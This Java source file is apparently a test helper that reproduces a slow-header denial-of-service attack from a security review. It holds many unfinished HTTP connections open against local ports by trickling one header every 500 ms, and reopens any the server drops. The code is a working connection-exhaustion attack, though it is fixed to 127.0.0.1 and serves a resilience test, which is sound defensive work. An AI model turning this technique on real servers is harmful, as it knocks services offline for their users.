package dev.kmsplugin.app.ops;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * The attack from the security review, as a program an unprivileged user runs: {@code count} connections to each
 * port, each sending a request line and then one header line every 500 ms, never finishing. A connection the server
 * closes is opened again on the next tick, so the pressure lasts as long as the program runs. Prints
 * {@code open N connected M} once every connection has been tried and has sent its request line, then {@code tick} lines.
 * Runs on the class path with nothing but the JDK, so a test can start it as another user.
 */
public final class SlowClients {

    private SlowClients() {
    }

    public static void main(String[] args) throws Exception {
        int count = Integer.parseInt(args[0]);
        List<InetSocketAddress> targets = new ArrayList<>();
        for (int i = 1; i < args.length; i++) {
            targets.add(new InetSocketAddress("127.0.0.1", Integer.parseInt(args[i])));
        }
        List<Socket> sockets = new ArrayList<>();
        List<InetSocketAddress> where = new ArrayList<>();
        for (InetSocketAddress target : targets) {
            for (int i = 0; i < count; i++) {
                Socket socket = null;
                try {
                    socket = open(target);
                } catch (IOException e) {
                    // not accepted in time: tried again on every tick
                }
                sockets.add(socket);
                where.add(target);
            }
        }
        System.out.println("open " + sockets.size() + " connected "
                + sockets.stream().filter(s -> s != null).count());
        System.out.flush();
        for (long tick = 0; ; tick++) {
            Thread.sleep(500);
            List<Integer> gone = new ArrayList<>();
            for (int i = 0; i < sockets.size(); i++) {
                Socket socket = sockets.get(i);
                try {
                    if (socket == null) {
                        throw new IOException("closed");
                    }
                    socket.getOutputStream().write(("X-Slow-" + tick + ": a\r\n").getBytes(StandardCharsets.US_ASCII));
                } catch (IOException e) {
                    close(socket);
                    sockets.set(i, null);
                    gone.add(i);
                }
            }
            System.out.println("tick " + tick + " closed by the server " + gone.size());
            System.out.flush();
            for (int i : gone) {
                try {
                    sockets.set(i, open(where.get(i)));
                } catch (IOException e) {
                    // refused outright; try again on the next tick
                }
            }
        }
    }

    private static Socket open(InetSocketAddress target) throws IOException {
        Socket socket = new Socket();
        socket.connect(target, 1_000);
        OutputStream out = socket.getOutputStream();
        out.write("GET /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n".getBytes(StandardCharsets.US_ASCII));
        out.flush();
        return socket;
    }

    private static void close(Socket socket) {
        if (socket != null) {
            try {
                socket.close();
            } catch (IOException ignored) {
                // already gone
            }
        }
    }
}
